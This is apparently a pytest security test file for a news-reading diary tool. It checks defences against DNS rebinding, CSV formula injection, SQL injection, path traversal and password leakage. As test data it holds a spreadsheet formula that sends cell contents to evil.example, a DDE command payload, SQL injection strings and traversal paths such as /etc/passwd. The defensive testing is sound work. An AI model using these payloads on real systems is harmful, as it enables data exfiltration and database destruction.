"""What hostile pages, names and questions must not do."""

from __future__ import annotations

import ast
import csv
import importlib.util
import json
import re
import subprocess
import sys
from dataclasses import replace
from datetime import date
from io import StringIO
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from legation import cluster, reading
from legation.diary import Diary
from legation.errors import DiaryError
from legation.model import Claim, Media, Query, RawPage
from legation.pages import Fetching, discover
from legation.views.export import COLUMNS, csv_text
from legation.web import make_app

ROOT = Path(__file__).parents[2]
SOURCES = sorted((ROOT / "src" / "legation").rglob("*.py"))
PAGE = """Norwegian minister in Ottawa

OTTAWA, May 14, 2024 - Norway's Foreign Minister Espen Barth Eide met Canadian Foreign Minister \
Melanie Joly in Ottawa on Tuesday.
"""
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"x")'


def test_a_name_that_leads_elsewhere_the_second_time(monkeypatch):
    """The address that is asked is the one that was checked, at each look-up anew."""
    answers = iter(["127.0.0.1", "127.0.0.2"])
    asked: list[tuple[str, int]] = []

    def look_up(host, port, *_, **__):
        return [(2, 1, 6, "", (next(answers, "127.0.0.2"), port))]

    def connect(address, **_):
        asked.append(address)
        raise ConnectionRefusedError("nobody is there")

    monkeypatch.setattr("legation.pages.connection.public", lambda ip: ip == "127.0.0.1")
    monkeypatch.setattr("socket.getaddrinfo", look_up)
    monkeypatch.setattr("socket.create_connection", connect)
    for _ in range(2):
        list(discover(["http://news.example/1"], fetching=Fetching(pause=0.0)))
    assert asked == [("127.0.0.1", 80)]


@pytest.mark.parametrize(
    "said",
    [
        "=1+1",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r\n=1",
        "＝1",
        "  =1",
        HOSTILE,
    ],
)
@pytest.mark.parametrize("value", [str, lambda said: (said, "Norway")], ids=["a text", "a list"])
def test_no_cell_is_a_formula(said, value):
    """Whatever a page says stays words in a spreadsheet, and nothing of it is lost."""
    ((_,), (cell,)) = csv.reader(StringIO(csv_text([{"quote": value(said)}], ["quote"])))
    assert cell.startswith("'")
    assert " ".join(said.split()) in cell


def test_every_csv_is_written_in_one_place():
    """What no door goes around."""
    writes = [
        path.relative_to(ROOT).as_posix()
        for path in SOURCES
        if re.search(r"\bcsv\.(?:writer|DictWriter)\b|\.(?:to_csv|write_csv)\(", path.read_text())
    ]
    assert writes == ["src/legation/views/export/rows.py"]


@pytest.fixture
def diary(tmp_path):
    """A diary of one engagement whose topic and whose place are formulas."""
    page = RawPage(id="=1+1", content=PAGE.encode(), media=Media.TEXT)
    made = reading.read(page)
    claims = tuple(_formula(claim) for claim in made.claims)
    path = tmp_path / "a.db"
    with Diary(path, today=date(2024, 6, 1)) as kept:
        kept.add_reading(page, replace(made, claims=claims))
    return path


def _formula(claim: Claim) -> Claim:
    assert claim.place is not None
    return replace(
        claim,
        place=replace(claim.place, name=HOSTILE),
        participants=tuple(replace(p, name=HOSTILE) for p in claim.participants),
    )


@pytest.mark.parametrize("door", ["engagements", "claims", "the web"])
def test_a_claim_leaves_by_no_door_as_a_formula(diary, door):
    """Of the command line or of the API."""
    if door == "the web":
        with TestClient(make_app(diary), base_url="http://localhost") as client:
            told = client.get("/api/engagements", params={"format": "csv"}).text
    else:
        command = ["export", "--format", "csv", "--rows", door, "--diary", str(diary)]
        told = _legation(*command).stdout
    heading, *rows = csv.reader(StringIO(told))
    assert len(rows) == 1
    assert set(heading) == set(COLUMNS["claims" if door == "claims" else "engagements"])
    cells = dict(zip(heading, rows[0], strict=True))
    assert HOSTILE in cells["place"] and HOSTILE in cells["participants"]
    assert [cell for cell in rows[0] if re.match(r"[=+@\-\t\r]", cell)] == []


SQL = re.compile(
    r"\b(?:SELECT|INSERT|DELETE|UPDATE|DROP|CREATE|ALTER|PRAGMA|LIMIT|WHERE|VACUUM|BEGIN)\b"
)


@pytest.mark.parametrize(
    "path",
    [
        path
        for path in SOURCES
        if re.search("sqlalchemy|sqlite3", path.read_text()) or path.parent.name == "store"
    ],
    ids=lambda path: path.name,
)
def test_no_statement_is_put_together(path):
    """No f-string, format or sum holds SQL, and no text of a statement is anything but constant."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    for node in ast.walk(tree):
        pieces: list[ast.AST] = []
        if isinstance(node, ast.JoinedStr):
            pieces = list(node.values)
        elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add | ast.Mod):
            pieces = [node.left, node.right]
        elif isinstance(node, ast.AugAssign):
            pieces = [node.value]
        elif isinstance(node, ast.Call) and getattr(node.func, "attr", "") == "format":
            pieces = [node.func]
        written = [
            part.value
            for piece in pieces
            for part in ast.walk(piece)
            if isinstance(part, ast.Constant) and isinstance(part.value, str)
        ]
        assert not any(map(SQL.search, written)), f"line {node.lineno}: {written}"
        if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "text":
            assert isinstance(node.args[0], ast.Constant), f"line {node.lineno}"


INJECTIONS = (
    "'; DROP TABLE claims; --", "\" OR \"1\"=\"1", "x' UNION SELECT json FROM claims --",
    "NEAR(a b) OR *", "%", "\\", "\x00", "claim:x AND words:y*",
)  # fmt: skip


@pytest.mark.parametrize("said", INJECTIONS)
def test_what_is_asked_is_no_statement(diary, said):
    """A question is words: it finds nothing here, and the diary stays as it is."""
    with Diary(diary) as kept:
        before = kept.counts()
        for query in (Query(people=(said,)), Query(place=said), Query(series=said)):
            assert kept.find(query) == ()
        kept.find(Query(text=said))
        assert kept.counts() == before
        assert len(kept.find(Query())) == 1


@pytest.mark.parametrize(
    "name",
    [
        "../../out.txt",
        "/etc/passwd",
        "..\\..\\out",
        "https://a.example/../../out",
        "a/\x00/b",
        "~/x",
    ],
)
def test_no_name_leads_out_of_the_archive(tmp_path, name):
    """Whatever a page calls itself, its bytes lie under their hash."""
    page = RawPage(id=name, content=PAGE.encode(), media=Media.TEXT, url=name)
    inside = tmp_path / "deep" / "er"
    inside.mkdir(parents=True)
    with Diary(inside / "a.db") as kept:
        kept.add(page)
    lines = inside / "in.jsonl"
    lines.write_text(json.dumps({"id": name, "text": PAGE, "url": name}) + "\n")
    list(cluster.backfill([str(lines)], inside / "out"))
    written = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert {path.parts[: len(inside.parts)] for path in written} == {inside.parts}
    (kept_at,) = (path for path in written if path.suffix == ".gz")
    assert kept_at.name == f"{page.hash}.gz"
    tables = list((inside / "out").rglob("*.parquet"))
    assert len(tables) == 2
    assert all(re.fullmatch(r"[0-9a-f]+\.parquet", path.name) for path in tables)


def test_a_manifest_leads_out_of_no_folder(tmp_path):
    """A row that calls its shard by another name than its own is none."""
    lines = tmp_path / "in.jsonl"
    lines.write_text(json.dumps({"id": "1", "text": PAGE}) + "\n")
    (row,) = cluster.backfill([str(lines)], tmp_path / "out")
    folder = cluster.Folder(tmp_path / "out")
    assert [one.shard for one in folder.rows()] == [row.shard]
    (path,) = (tmp_path / "out" / "manifest").glob("*.json")
    path.write_text(path.read_text().replace(row.shard, f"../../elsewhere/{row.shard}"))
    assert list(folder.rows()) == []


def test_the_command_line_tells_no_password(tmp_path):
    """Neither the message of a database that is not there nor any other output has it."""
    pytest.importorskip("psycopg", reason="psycopg is not installed")
    address = "postgresql://ada:hunter2secret@127.0.0.1:1/diary?connect_timeout=1"
    for command in (["diary"], ["add", str(tmp_path)], ["export"], ["decide", "list"]):
        done = _legation(*command, "--diary", address, fails=True)
        assert done.returncode != 0
        assert "hunter2secret" not in done.stdout + done.stderr
    with pytest.raises(DiaryError) as raised:
        Diary(address)
    assert "hunter2secret" not in str(raised.value)


def test_the_locks_are_whole(tmp_path):
    """Every library has one version and its hashes; a lock that leaves one open is told."""
    spec = importlib.util.spec_from_file_location("audit", ROOT / "tools" / "audit.py")
    assert spec is not None and spec.loader is not None
    audit = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(audit)
    locks = [ROOT / "requirements.lock", ROOT / "requirements-dev.lock"]
    assert audit.unpinned(locks) == []
    loose = tmp_path / "loose.lock"
    loose.write_text("click>=8\nrich==1.0\n")
    assert len(audit.unpinned([*locks, loose])) == 3


def _legation(*given: str, fails: bool = False) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "legation", *given],
        check=not fails,
        capture_output=True,
        text=True,
        timeout=100,
    )
